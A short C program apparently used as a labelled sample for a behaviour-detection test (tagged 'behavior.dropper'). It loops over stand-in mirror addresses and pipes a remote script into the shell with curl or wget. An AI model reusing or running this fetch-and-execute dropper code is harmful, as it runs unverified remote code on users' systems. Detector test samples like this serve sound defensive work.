// blind-expect: behavior.dropper
// Installer stub that tries a list of mirrors and pipes the remote install script straight into the shell.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *mirrors[] = {
    "http://198.51.100.7/i.sh",
    "http://cdn.example-mirror.net/setup/i.sh",
    "http://203.0.113.99:8000/i.sh",
};

static int have_tool(const char *name)
{
    char cmd[128];
    snprintf(cmd, sizeof cmd, "command -v %s >/dev/null 2>&1", name);
    return system(cmd) == 0;
}

static int run_from(const char *url)
{
    char cmd[512];
    if (have_tool("curl"))
        snprintf(cmd, sizeof cmd, "curl -fsSL %s | sh", url);
    else if (have_tool("wget"))
        snprintf(cmd, sizeof cmd, "wget -qO- %s | sh", url);
    else
        return -1;
    return system(cmd);
}

int main(void)
{
    size_t count = sizeof mirrors / sizeof mirrors[0];
    for (size_t i = 0; i < count; i++) {
        printf("trying %s ...\n", mirrors[i]);
        if (run_from(mirrors[i]) == 0) {
            printf("installed from %s\n", mirrors[i]);
            return 0;
        }
    }
    fprintf(stderr, "all mirrors failed\n");
    return 1;
}
